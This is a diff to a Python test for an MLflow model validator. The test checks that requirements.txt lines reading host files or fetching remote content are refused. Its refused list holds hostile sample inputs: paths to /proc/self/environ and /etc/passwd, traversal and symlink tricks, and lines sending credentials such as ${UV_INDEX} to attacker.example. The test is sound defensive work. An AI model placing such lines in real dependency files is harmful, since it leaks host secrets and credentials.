@@ -9,7 +9,7 @@ from mlflow_validator.errors import InfrastructureError, UsageError
 from mlflow_validator.isolation import install_network, install_tool_env, model_process_env
 from mlflow_validator.model.fetch import parse_model_uri
 from mlflow_validator.model.mlmodel import ModelFileError
-from mlflow_validator.model.requirements import outside_paths, parse_requirements
+from mlflow_validator.model.requirements import parse_requirements, refused_lines
 from mlflow_validator.results import Outcome, Stage, Status, failed, passed
 from mlflow_validator.settings import BuildNetwork, resolve_options
 from mlflow_validator.settings.types import IMAGE_REFERENCE, MEMORY
@@ -188,21 +188,48 @@ def test_the_models_index_lines_join_the_settings_indexes_and_the_settings_index
     assert install_tool_env({}, network)["UV_INDEX"] == "https://other/simple https://u:p@private/simple"
 
 
-def test_requirements_that_read_files_outside_the_model_are_named_whichever_way_they_reach_them(tmp_path):
+def test_requirements_reach_uv_only_in_forms_that_read_nothing_outside_the_model(tmp_path):
+    """An allow-list: each refused line is a way uv would read a host file, expand a credential or fetch more."""
     model = tmp_path / "model"
     (model / "extra").mkdir(parents=True)
-    (model / "extra" / "more.txt").write_text("-c ../../secrets.txt\nnumpy==2.0\n")
+    (model / "wheels").mkdir()
+    (model / "wheels" / "own-1.0-py3-none-any.whl").write_text("")
+    (model / "extra" / "more.txt").write_text("numpy==2.0 --hash=sha256:" + "a" * 64 + "\n-c ../../secrets.txt\n")
     (model / "leak").symlink_to("/proc/self/environ")
+    (model / "loop.txt").write_text("-r loop.txt\n")
+    accepted = [
+        "pandas==2.2",
+        'numpy==2.0; python_version < "3.12"',
+        "-r extra/more.txt",
+        "--requirement=loop.txt",
+        "./wheels/own-1.0-py3-none-any.whl",
+        "torch @ https://download.pytorch.org/whl/cpu/torch-2.5.0-cp311-linux_x86_64.whl",
+        "--extra-index-url https://pypi.example.com/simple",
+    ]
+    refused = [
+        "-r /proc/self/environ",
+        "-r\t/etc/passwd",
+        '-r "/etc/passwd"',
+        "-r leak",
+        "-r leak#x",
+        "-r a/../../x.txt",
+        "-r https://attacker.example/r.txt",
+        "-r ${HOME}/.netrc",
+        "foo @ https://attacker.example/${UV_INDEX}/foo.whl",
+        "foo @ file:///etc/passwd",
+        "foo@../x",
+        "leak/x",
+        "-e ./helper",
+        "--find-links /home",
+        "--index-url file:///srv",
+        "foo @ git+file:///home/runner/repo",
+    ]
     requirements = model / "requirements.txt"
-    requirements.write_text(
-        "pandas==2.2\n-r extra/more.txt\n-r /proc/self/environ\n--requirement=leak\n./wheels/ok.whl\n"
-        "-e ../outside-project\nhttps://example.com/x.whl\nmine @ file:///etc/hostname\n"
-    )
-    found = outside_paths(requirements, model.resolve())
-    assert found == [
-        "more.txt line 1: -c ../../secrets.txt",
-        "requirements.txt line 3: -r /proc/self/environ",
-        "requirements.txt line 4: --requirement=leak",
-        "requirements.txt line 6: -e ../outside-project",
-        "requirements.txt line 8: mine @ file:///etc/hostname",
+    requirements.write_text("\n".join([*accepted, *refused]) + "\n")
+
+    found = refused_lines(requirements, model.resolve())
+
+    assert found[0] == "more.txt line 2: -c ../../secrets.txt (not a file of the model)"
+    assert [line.split(": ", 1)[1].rsplit(" (", 1)[0] for line in found[1:]] == [
+        text.replace("\t", "\t") for text in refused
     ]
